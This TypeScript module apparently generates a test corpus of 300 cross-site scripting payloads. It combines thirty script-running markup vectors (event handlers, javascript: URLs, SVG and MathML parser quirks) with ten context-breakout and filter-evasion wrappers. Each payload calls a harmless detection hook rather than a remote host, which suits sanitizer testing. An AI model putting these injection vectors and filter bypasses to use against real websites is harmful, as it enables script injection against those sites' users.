/** Runs when a payload is executed; a page that looks for it defines it. */
const HIT = 'window.__executed&&window.__executed()';

/** Markup that runs a script where it is taken as HTML: by an event, an address, an element or a parser's quirk. */
const MARKUP: readonly string[] = [
  `<script>${HIT}</script>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src=x: onerror=${HIT} //`,
  `<svg onload="${HIT}"></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<svg><set attributeName="onmouseover" to="${HIT}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${HIT}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${HIT}"></style></table></mtext></math>`,
  `<math href="javascript:${HIT}">a</math>`,
  `<a href="javascript:${HIT}" autofocus onfocus="${HIT}">a</a>`,
  `<iframe srcdoc="<script>parent.__executed()</script>"></iframe>`,
  `<iframe src="javascript:parent.__executed()"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<video><source onerror="${HIT}"></video>`,
  `<audio src=x onerror="${HIT}"></audio>`,
  `<details open ontoggle="${HIT}"><summary>a</summary></details>`,
  `<input autofocus onfocus="${HIT}">`,
  `<select autofocus onfocus="${HIT}"></select>`,
  `<body onload="${HIT}" onpageshow="${HIT}">`,
  `<form action="javascript:${HIT}"><button formaction="javascript:${HIT}">a</button></form>`,
  `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="${HIT}">a</b>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<template><img src=x onerror="${HIT}"></template>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`,
  `<base href="javascript:/a/-${HIT}//"><a href="#">a</a>`,
  `<link rel="stylesheet" href="data:text/css,*{display:none}" onload="${HIT}">`,
  `<marquee onstart="${HIT}">a</marquee>`,
];

/** Ways to get out of where a text stands, or past a filter. */
const FRAMES: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</textarea></title></style></script>${markup}`,
  (markup) => `-->${markup}<!--`,
  (markup) => `]]>${markup}`,
  (markup) => `\`\${${markup}}\``,
  (markup) => `${markup.replace(/^<(\w+)/, (_, name: string) => `<${name.toUpperCase()}`)}`,
  (markup) => `${markup.replace(/^<(\w+) /, '<$1/')}`,
  (markup) => `{{constructor.constructor('${HIT}')()}}${markup}`,
];

/** Texts that would run a script in a page that takes them as markup: 300. */
export const SCRIPT_PAYLOADS: readonly string[] = MARKUP.flatMap((markup) =>
  FRAMES.map((frame) => frame(markup)),
);
